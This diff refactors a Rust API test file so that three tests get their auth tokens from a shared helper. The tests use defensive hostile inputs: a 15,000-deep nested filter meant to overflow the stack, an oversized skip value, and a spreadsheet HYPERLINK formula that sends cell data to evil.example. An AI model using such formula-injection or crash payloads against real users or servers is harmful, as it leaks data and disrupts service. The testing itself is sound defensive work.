@@ -36,10 +36,7 @@ async fn number_count(db: &numbat::store::Database) -> i64 {
 async fn a_filter_nested_past_the_limit_is_a_400_and_the_server_keeps_serving() {
     let test = TestDb::sqlite().await.migrated().await;
     let app = app_without_bundle(&test.db);
-    let read_only =
-        numbat::auth::tokens::create(&test.db, "test", Door::Cli, "reader", &[Role::Read])
-            .await
-            .unwrap();
+    let read_only = crate::common::api_token(&test.db, "reader", &[Role::Read]).await;
     // Once, this killed the whole process with a stack overflow.
     for hostile in [
         "(".repeat(15_000),
@@ -68,9 +65,7 @@ async fn a_filter_nested_past_the_limit_is_a_400_and_the_server_keeps_serving() 
 async fn skip_past_what_keyset_paging_answers_cheaply_is_refused_with_the_limit() {
     let test = TestDb::sqlite().await.migrated().await;
     let app = app_without_bundle(&test.db);
-    let token = numbat::auth::tokens::create(&test.db, "test", Door::Cli, "bss", &[Role::Read])
-        .await
-        .unwrap();
+    let token = crate::common::api_token(&test.db, "bss", &[Role::Read]).await;
     let (status, body) = api_get(&app, &token, "/numbers?skip=2147483647").await;
     assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
     assert_eq!(body["error"]["target"], "skip");
@@ -494,9 +489,7 @@ async fn exported_formulas_arrive_as_text_and_import_back_unchanged() {
     let _renderer = common::one_renderer_at_a_time().await;
     let test = TestDb::sqlite().await.migrated().await;
     let app = app_without_bundle(&test.db);
-    let token = numbat::auth::tokens::create(&test.db, "test", Door::Cli, "bss", &[Role::Admin])
-        .await
-        .unwrap();
+    let token = crate::common::api_token(&test.db, "bss", &[Role::Admin]).await;
     let formula = r#"=HYPERLINK("https://evil.example/?"&A2,"Open")"#;
     api_put(
         &app,
